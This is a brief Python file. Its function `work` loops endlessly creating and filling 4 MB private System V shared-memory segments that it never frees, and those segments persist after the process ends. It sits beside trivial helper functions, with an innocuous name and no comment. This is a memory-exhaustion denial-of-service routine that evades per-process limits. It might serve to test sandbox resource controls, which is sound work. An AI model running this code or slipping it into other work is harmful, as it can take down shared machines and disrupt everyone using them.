import ctypes


def work(number):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    while True:
        place = libc.shmat(libc.shmget(0, 1 << 22, 0o1600), None, 0)
        ctypes.memset(place, 120, 1 << 22)


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
